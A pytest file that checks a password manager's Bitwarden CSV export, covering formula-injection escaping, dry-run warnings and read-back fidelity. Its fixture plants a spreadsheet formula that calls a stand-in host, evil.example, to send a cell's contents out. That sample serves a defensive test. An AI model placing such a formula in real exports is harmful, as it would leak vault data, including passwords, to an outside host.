"""bitwarden-csv's limits (extensions.md §2): what the CSV cannot hold is named before the file is written
(GET /v1/export?dry_run=true), and cells a spreadsheet would run as formulas are written with a leading `'`."""

import csv
import io

import pytest

from conftest import Vault, share
from oppmini.transfer import exporters, importers

PLANTED = '=WEBSERVICE("https://evil.example/x?p="&J3)'


def export(vault, status=200, **query):
    return vault.client.get("/v1/export", query, headers=vault.headers, status=status)


def csv_rows(vault, **query):
    return list(csv.DictReader(io.StringIO(export(vault, format="bitwarden-csv", **query).body.decode())))


@pytest.fixture
def planted(vault, auth):
    """bob (write) plants formulas in alice's shared collection "@Family"; alice has one clean item of her own."""
    bob = Vault(vault.client, auth.user("bob"))
    family = vault.put("collections", {"names": ["@Family"]})["collections"][0]["id"]
    share(vault, family, bob, "bob", "write")
    bob.add_items(
        {
            "name": PLANTED,
            "url": "-2+3",
            "blob": "+SUM(A1:A9)",
            "username": "=user",
            "password": "@secret",
            "fields": [{"name": "\tTab", "value": "=value", "hidden": False}],
            "collection_id": family,
        },
        {"name": "\rReturn", "blob": "@mention", "collection_id": family},
    )
    [tools] = vault.add_categories("-Tools")
    vault.add_items(
        {
            "name": "Mail",
            "url": "https://mail.example/?q=a=b",
            "blob": "x = 1 + 2",
            "password": "=pw",
            "username": "-me",
            "category_id": tools["id"],
            "fields": [{"name": "PIN", "value": "+49", "hidden": False}],
        }
    )
    return vault


def test_cells_a_spreadsheet_would_run_get_a_leading_quote_and_secrets_are_written_as_stored(planted):
    rows = {row["login_password"]: row for row in csv_rows(planted, include_collections="true")}
    bobs, plain, mine = rows["@secret"], rows[""], rows["=pw"]
    assert (bobs["name"], bobs["login_uri"], bobs["notes"], bobs["fields"], bobs["collections"]) == (
        "'" + PLANTED,
        "'-2+3",
        "'+SUM(A1:A9)",
        "'\tTab: =value",
        "'@Family",
    )
    # Usernames, passwords and TOTP seeds are secrets a person types elsewhere: exactly as stored.
    assert (bobs["login_username"], bobs["login_password"]) == ("=user", "@secret")
    assert (plain["name"], plain["notes"]) == ("'\rReturn", "'@mention")
    # A formula character later in a cell is harmless; a category is guarded as well.
    assert (mine["name"], mine["login_uri"], mine["notes"], mine["fields"], mine["folder"]) == (
        "Mail",
        "https://mail.example/?q=a=b",
        "x = 1 + 2",
        "PIN: +49",
        "'-Tools",
    )
    assert (mine["login_username"], mine["login_password"]) == ("-me", "=pw")


def test_the_json_exports_are_not_touched(planted):
    document = importers.read(export(planted, format="bitwarden-json", include_collections="true").body)
    assert sorted(entry.name for entry in document.entries) == sorted([PLANTED, "\rReturn", "Mail"])


# Texts the CSV cannot hold as they are, one item each, and items it holds exactly.
HARD = [
    {"name": "Comma URL", "url": "https://bank.example/?a=1,2"},
    {"name": "URL without a scheme", "url": "bank.example/login"},
    {"name": "Two-line field", "fields": [{"name": "Codes", "value": "one\ntwo", "hidden": False}]},
    {"name": "Two-line field name", "fields": [{"name": "A\nB", "value": "v", "hidden": False}]},
    {"name": "Colon in a field name", "fields": [{"name": "Q: pet", "value": "Rex", "hidden": False}]},
    {"name": "Colon in a field value", "fields": [{"name": "Q", "value": "pet: Rex", "hidden": False}]},
    {"name": "Two-line account", "account": "acct\n2"},
    {"name": "Hidden field", "fields": [{"name": "PIN", "value": "4711", "hidden": True}]},
    {"name": "CR in the notes", "blob": "a\r\nb"},
    {"name": "CR in the password", "password": "p\rw"},
    {"name": "=Formula name"},
    {"name": "Formula notes", "blob": "-1"},
    {"name": "Formula field name", "fields": [{"name": "@home", "value": "x", "hidden": False}]},
]
EXACT = [
    {
        "name": "Plain",
        "url": "https://a.example/?q=1;2",
        "username": "=me",
        "password": '-p,w: "x"',
        "blob": 'line 1\nline 2, "quoted"',
        "account": "acct 7",
        "fields": [
            {"name": "Support", "value": "0800", "hidden": False},
            {"name": "Empty", "value": "", "hidden": False},
        ],
    },
    {"name": "Bare"},
]


def read_back(body):
    """Our importer's entries of a CSV export, as (name, url, username, password, notes, folder, fields)."""
    return [
        (
            entry.name,
            entry.url,
            entry.username,
            entry.password,
            entry.notes,
            entry.folder,
            [(name, value, hidden) for name, value, hidden in entry.fields],
        )
        for entry in importers.read(body).entries
    ]


def stored(item, folder=""):
    account = [("Account", item["account"], False)] if item["account"] else []
    return (
        item["name"],
        item["url"],
        item["username"],
        item["password"],
        item["blob"],
        folder,
        account + [(one["name"], one["value"], one["hidden"]) for one in item["fields"]],
    )


def bitwarden_fields(cell):
    """The custom fields of a `fields` cell as Bitwarden's own importer reads them: a line each, split at the LAST
    ": " (ours splits at the first)."""
    found = []
    for line in cell.replace("\r\n", "\n").replace("\r", "\n").split("\n"):
        at = line.rfind(": ")
        if line.strip() and at != -1:
            found.append((line[:at], line[at + 2 :]))
    return found


def bitwarden_uri(cell):
    """A URL as Bitwarden's reader fixes it: trimmed, and http:// before one with a dot and no scheme."""
    cell = cell.strip()
    return "http://" + cell if "://" not in cell and "." in cell else cell


def test_the_dry_run_names_every_item_the_csv_changes_and_only_those(vault):
    added = vault.add_items(*HARD, *EXACT)
    answer = export(vault, format="bitwarden-csv", dry_run="true")
    assert answer.content_type == "application/json"
    checked = answer.json
    warned = {one["name"] for one in checked["warnings"]}
    assert warned == {item["name"] for item in HARD}
    assert {key: value for key, value in checked.items() if key != "warnings"} == {
        "result": "success",
        "format": "bitwarden-csv",
        "dry_run": True,
        "categories": 0,
        "items": len(added),
    }
    ids = {item["name"]: item["id"] for item in added}
    assert all(one["item"] == ids[one["name"]] for one in checked["warnings"])

    # What the file really does: read back, the warned items differ and the others are the same.
    body = export(vault, format="bitwarden-csv").body
    back = read_back(body)
    changed = {item["name"] for item, entry in zip(added, back, strict=True) if stored(item) != entry}
    # Bitwarden's reader alone splits a field at the last ": " and puts http:// before a URL without a scheme.
    assert changed == {item["name"] for item in HARD} - {"Colon in a field value", "URL without a scheme"}
    # Bitwarden splits at the last ": ": the value's colon breaks it there, the name's colon ours.
    rows = {row["name"]: row for row in csv.DictReader(io.StringIO(body.decode()))}
    assert bitwarden_uri(rows["URL without a scheme"]["login_uri"]) == "http://bank.example/login"
    cells = {name: row["fields"] for name, row in rows.items()}
    assert bitwarden_fields(cells["Colon in a field value"]) == [("Q: pet", "Rex")]
    assert bitwarden_fields(cells["Colon in a field name"]) == [("Q: pet", "Rex")]
    assert back[[item["name"] for item in added].index("=Formula name")][0] == "'=Formula name"
    assert all(
        bitwarden_fields(cells[item["name"]]) == [(one[0], one[1]) for one in stored(item)[6]]
        and bitwarden_uri(rows[item["name"]]["login_uri"]) == item["url"]
        for item in added
        if item["name"] not in warned
    )


def test_each_warning_says_what_changes_without_a_secret(vault):
    hard = {item["name"]: item for item in HARD}
    vault.add_items(
        *(
            hard[name]
            for name in (
                "Comma URL",
                "URL without a scheme",
                "Two-line field",
                "Hidden field",
                "CR in the password",
                "=Formula name",
            )
        ),
        {**hard["Two-line account"], "name": "-Both", "url": "a,b"},
    )
    reasons = [
        (one["name"], one["reason"]) for one in export(vault, format="bitwarden-csv", dry_run="true").json["warnings"]
    ]
    assert reasons == [
        ("Comma URL", "its URL holds a comma: read back as several URLs"),
        ("URL without a scheme", "its URL has no scheme: Bitwarden reads it as http://..."),
        ("Two-line field", 'its custom field "Codes" holds a line break: read back as several fields'),
        ("Hidden field", 'its custom field "PIN" is hidden: read back as a visible field'),
        ("CR in the password", "its password holds a carriage return: read back as a line break"),
        (
            "=Formula name",
            'its name starts with "=": written with a \' in front, so that a spreadsheet shows it '
            "rather than running it",
        ),
        (
            "-Both",
            'its name starts with "-": written with a \' in front, so that a spreadsheet shows it rather '
            "than running it",
        ),
        ("-Both", "its account holds a line break: read back as several fields"),
        ("-Both", "its URL holds a comma: read back as several URLs"),
    ]
    assert not any(secret in reason for _, reason in reasons for secret in ("4711", "p\rw", "one\ntwo", "acct"))


def test_a_dry_run_of_a_json_format_changes_nothing_writes_no_file_and_is_not_logged(vault):
    vault.add_items(*HARD)
    for format_name in exporters.NAMES:
        answer = export(vault, format=format_name, dry_run="true")
        assert "Content-Disposition" not in answer.headers
        assert (answer.json["format"], answer.json["dry_run"]) == (format_name, True)
        assert (answer.json["warnings"] == []) == (format_name != "bitwarden-csv")
    assert [one for one in vault.get("activity")["events"] if one["event"] == "export"] == []
    refused = export(vault, status=400, format="bitwarden-csv", dry_run="maybe").json
    assert refused["description"] == "'dry_run' must be one of: true, false."


def test_a_typed_item_s_fields_become_custom_fields_of_a_note_and_the_dry_run_says_so(vault):
    vault.add_items(
        {"name": "Visa", "type": "card", "card": {"cardholder": "A", "number": "4111111111111111"}},
        {"name": "Home", "type": "wifi", "password": "key", "wifi": {"ssid": "Home 5G"}},
    )
    reasons = [
        (one["name"], one["reason"]) for one in export(vault, format="bitwarden-csv", dry_run="true").json["warnings"]
    ]
    assert reasons == [
        ("Visa", "its card fields become custom fields of a note"),
        ("Visa", 'its card field "number" is hidden: read back as a visible field'),
        ("Home", "its wifi fields become custom fields of a login"),
    ]
    card, wifi = importers.read(export(vault, format="bitwarden-csv").body).entries
    assert (card.type, card.fields) == (
        "note",
        [("cardholder", "A", False), ("brand", "Visa", False), ("number", "4111111111111111", False)],
    )
    assert (wifi.type, wifi.password, wifi.fields) == (
        "login",
        "key",
        [("ssid", "Home 5G", False), ("security", "wpa2", False)],
    )
